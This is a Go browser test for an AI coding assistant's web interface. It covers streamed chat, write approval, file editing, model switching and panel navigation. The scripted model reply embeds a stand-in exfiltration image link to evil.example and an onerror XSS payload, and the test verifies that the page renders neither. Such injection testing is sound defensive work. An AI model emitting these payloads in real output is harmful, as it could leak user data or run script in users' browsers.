package web

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/zelvior/aidex/internal/llm/llmtest"
)

// findChromium returns the path of a Chromium or Chrome binary, or "".
func findChromium() string {
	if p := os.Getenv("AIDEX_CHROMIUM"); p != "" {
		return p
	}
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome", "google-chrome-stable", "chrome"} {
		if p, err := exec.LookPath(name); err == nil {
			return p
		}
	}
	return ""
}

// browser starts a headless Chromium for the test, or skips it when none
// is installed.
func browser(t *testing.T) context.Context {
	t.Helper()
	bin := findChromium()
	if bin == "" {
		t.Skip("browser tests skipped: no chromium found (install Debian's chromium: apt-get install chromium; .ci/run does)")
	}
	opts := append(chromedp.DefaultExecAllocatorOptions[:],
		chromedp.ExecPath(bin),
		chromedp.Flag("disable-gpu", true),
		chromedp.Flag("disable-background-networking", true),
		chromedp.Flag("disable-component-update", true),
		chromedp.Flag("disable-sync", true),
		chromedp.Flag("no-first-run", true),
		chromedp.WindowSize(1280, 820),
		chromedp.UserDataDir(t.TempDir()),
	)
	if runtime.GOOS == "linux" {
		opts = append(opts, chromedp.NoSandbox) // CI runs as root
	}
	actx, cancelAlloc := chromedp.NewExecAllocator(context.Background(), opts...)
	ctx, cancelCtx := chromedp.NewContext(actx)
	ctx, cancelTimeout := context.WithTimeout(ctx, 90*time.Second)
	t.Cleanup(func() {
		cancelTimeout()
		cancelCtx()
		cancelAlloc()
	})
	if err := chromedp.Do(ctx); err != nil { // start the browser now
		t.Fatalf("start %s: %v", bin, err)
	}
	return ctx
}

// waitJS polls a JavaScript expression until it is truthy (10 s).
func waitJS(t *testing.T, ctx context.Context, what, expr string) {
	t.Helper()
	if _, err := chromedp.Run(ctx, chromedp.Poll[bool](expr, chromedp.WithPollingTimeout(15*time.Second))); err != nil {
		page, _ := chromedp.Run(ctx, chromedp.Evaluate[string](`document.querySelector('#errors').innerText + ' | ' + document.body.innerText.slice(0, 1500)`))
		t.Fatalf("waiting for %s (%s): %v\npage: %s", what, expr, err, page)
	}
}

func do(t *testing.T, ctx context.Context, what string, steps ...chromedp.Action[chromedp.Void]) {
	t.Helper()
	if err := chromedp.Do(ctx, steps...); err != nil {
		t.Fatalf("%s: %v", what, err)
	}
}

// screenshot saves the page as PNG into $AIDEX_WEB_SCREENSHOTS when set.
func screenshot(t *testing.T, ctx context.Context, name string) {
	dir := os.Getenv("AIDEX_WEB_SCREENSHOTS")
	if dir == "" {
		return
	}
	png, err := chromedp.Run(ctx, chromedp.CaptureScreenshot())
	if err != nil {
		t.Errorf("screenshot %s: %v", name, err)
		return
	}
	if err := os.WriteFile(filepath.Join(dir, name+".png"), png, 0o644); err != nil {
		t.Error(err)
	}
}

// TestBrowser drives the page in headless Chromium: open the tokenized
// URL, chat with a scripted model and see the streamed answer, approve a
// write from its button, open and save a file in the Files panel (bytes
// unchanged), switch the model, and visit every panel.
func TestBrowser(t *testing.T) {
	ctx := browser(t)
	model := llmtest.NewScript(t,
		llmtest.Turn{Text: "Hello from the **scripted** model.\n\n```go\nfunc main() {}\n```\n\n![x](https://evil.example/leak?d=1) <img src=x onerror=alert(1)>"},
		llmtest.Turn{Calls: []llmtest.Call{{Name: "write_file", Args: `{"path":"made.txt","content":"made by the model\n"}`}}},
		llmtest.Turn{Text: "I wrote made.txt."})
	e := newEnv(t, model, "")
	crlf := "first line\r\nsecond line\r\n"
	e.write("edit.txt", crlf)
	e.write("src/main.go", "package main\n\nfunc main() {}\n")

	do(t, ctx, "open the tokenized URL", chromedp.Navigate(e.ts.URL+"/?token="+testToken))
	waitJS(t, ctx, "the page to load", `document.body.dataset.ready === '1' && document.querySelector('#status-model').textContent === 'fake/m1'`)
	if u, _ := chromedp.Run(ctx, chromedp.Evaluate[string](`location.href`)); strings.Contains(u, "token") {
		t.Errorf("the token stayed in the address bar: %s", u)
	}
	screenshot(t, ctx, "chat-empty")

	// Chat: the streamed answer appears, rendered as Markdown, with no image loaded and no HTML injected.
	do(t, ctx, "send a message", chromedp.SendKeys(chromedp.CSS("#chat-input"), "say hello"), chromedp.Click(chromedp.CSS("#send")))
	waitJS(t, ctx, "the streamed answer", `[...document.querySelectorAll('.msg.assistant')].some(m => m.textContent.includes('Hello from the scripted model.') && m.querySelector('strong'))`)
	waitJS(t, ctx, "the run to end", `!document.body.classList.contains('running')`)
	if n, _ := chromedp.Run(ctx, chromedp.Evaluate[int](`document.querySelectorAll('.msg.assistant img, .msg.assistant script').length`)); n != 0 {
		t.Errorf("model output created %d img/script elements", n)
	}
	if n, _ := chromedp.Run(ctx, chromedp.Evaluate[int](`document.querySelectorAll('.msg.assistant .tok-keyword').length`)); n == 0 {
		t.Error("the code block was not highlighted")
	}

	// Approve a write from its button.
	do(t, ctx, "ask for a write", chromedp.SendKeys(chromedp.CSS("#chat-input"), "write a file"), chromedp.Click(chromedp.CSS("#send")))
	waitJS(t, ctx, "the approval buttons", `document.querySelector('.approval button[data-decision="once"]') !== null`)
	screenshot(t, ctx, "chat-approval")
	do(t, ctx, "approve", chromedp.Click(chromedp.CSS(`.approval button[data-decision="once"]`)))
	waitJS(t, ctx, "the final answer", `document.querySelector('#messages').textContent.includes('I wrote made.txt.') && !document.body.classList.contains('running')`)
	if got := e.read("made.txt"); got != "made by the model\n" {
		t.Errorf("made.txt = %q", got)
	}
	waitJS(t, ctx, "the tool card marked done", `document.querySelector('.tool-card.ok .diff-add') !== null`)
	screenshot(t, ctx, "chat")

	// Files: open a CRLF file, save it unchanged (bytes identical), then edit and save.
	do(t, ctx, "open Files", chromedp.Click(chromedp.CSS(`.tabs button[data-panel="files"]`)))
	waitJS(t, ctx, "the tree", `document.querySelector('#tree li.file[data-path="edit.txt"] .label') !== null`)
	do(t, ctx, "open edit.txt", chromedp.Click(chromedp.CSS(`#tree li.file[data-path="edit.txt"] .label`)))
	waitJS(t, ctx, "the editor", `document.querySelector('#editor').value.startsWith('first line') && !document.querySelector('#save-file').disabled`)
	do(t, ctx, "save unchanged", chromedp.Click(chromedp.CSS("#save-file")))
	waitJS(t, ctx, "the save", `document.querySelector('#editor-state').textContent.includes('saved')`)
	if got := e.read("edit.txt"); got != crlf {
		t.Errorf("after an unchanged save: %q, want %q", got, crlf)
	}
	if _, err := chromedp.Run(ctx, chromedp.Evaluate[bool](`(() => { const ed = document.querySelector('#editor'); ed.value += 'third line\n'; ed.dispatchEvent(new Event('input')); return true; })()`)); err != nil {
		t.Fatal(err)
	}
	do(t, ctx, "save edited", chromedp.Click(chromedp.CSS("#save-file")))
	waitJS(t, ctx, "the second save", `document.querySelector('#editor-state').textContent.includes('saved')`)
	if got := e.read("edit.txt"); got != crlf+"third line\r\n" {
		t.Errorf("after an edit: %q (CRLF must be kept)", got)
	}
	do(t, ctx, "open src", chromedp.Click(chromedp.CSS(`#tree li.dir[data-path="src"] .label`)))
	waitJS(t, ctx, "src/main.go", `document.querySelector('#tree li.file[data-path="src/main.go"]') !== null`)
	screenshot(t, ctx, "files")

	// Models: switch to m2.
	do(t, ctx, "open Models", chromedp.Click(chromedp.CSS(`.tabs button[data-panel="models"]`)))
	waitJS(t, ctx, "the model list", `document.querySelector('tr.model-row[data-id="m2"] button.use') !== null`)
	screenshot(t, ctx, "models")
	do(t, ctx, "switch model", chromedp.Click(chromedp.CSS(`tr.model-row[data-id="m2"] button.use`)))
	waitJS(t, ctx, "the new model", `document.querySelector('#status-model').textContent === 'fake/m2'`)
	if m := e.srv.Runtime().Model; m != "m2" {
		t.Errorf("server model = %s", m)
	}

	// Ralph (not available yet: the page says so) and Settings.
	do(t, ctx, "open Ralph", chromedp.Click(chromedp.CSS(`.tabs button[data-panel="ralph"]`)))
	waitJS(t, ctx, "the Ralph notice", `document.querySelector('#ralph-detail').textContent.includes('not available')`)
	screenshot(t, ctx, "ralph")
	do(t, ctx, "open Settings", chromedp.Click(chromedp.CSS(`.tabs button[data-panel="settings"]`)))
	waitJS(t, ctx, "the providers", `document.querySelectorAll('.provider-card').length > 5 && document.querySelectorAll('#config-list tr').length > 5`)
	screenshot(t, ctx, "settings")
	theme, _ := chromedp.Run(ctx, chromedp.Evaluate[string](`document.documentElement.dataset.theme`))
	other := map[string]string{"dark": "light", "light": "dark"}[theme]
	do(t, ctx, "switch theme", chromedp.Click(chromedp.CSS("#theme-toggle")))
	waitJS(t, ctx, "the other theme", `document.documentElement.dataset.theme === '`+other+`'`)
	screenshot(t, ctx, "settings-"+other)
	do(t, ctx, "back to Chat", chromedp.Click(chromedp.CSS(`.tabs button[data-panel="chat"]`)))
	waitJS(t, ctx, "the chat", `document.querySelector('#panel-chat').classList.contains('active')`)
	screenshot(t, ctx, "chat-"+other)

	if errs, _ := chromedp.Run(ctx, chromedp.Evaluate[string](`document.querySelector('#errors').innerText`)); strings.TrimSpace(errs) != "" {
		t.Errorf("the page shows errors: %s", errs)
	}
}

// TestBrowserShowsErrors: an API failure is shown in the page.
func TestBrowserShowsErrors(t *testing.T) {
	ctx := browser(t)
	e := newEnv(t, nil, "")
	// Without the token the page loads but every call fails: the page must say so.
	do(t, ctx, "open without token", chromedp.Navigate(e.ts.URL+"/"))
	waitJS(t, ctx, "the error", `document.querySelector('#errors').textContent.includes('Not signed in')`)
}
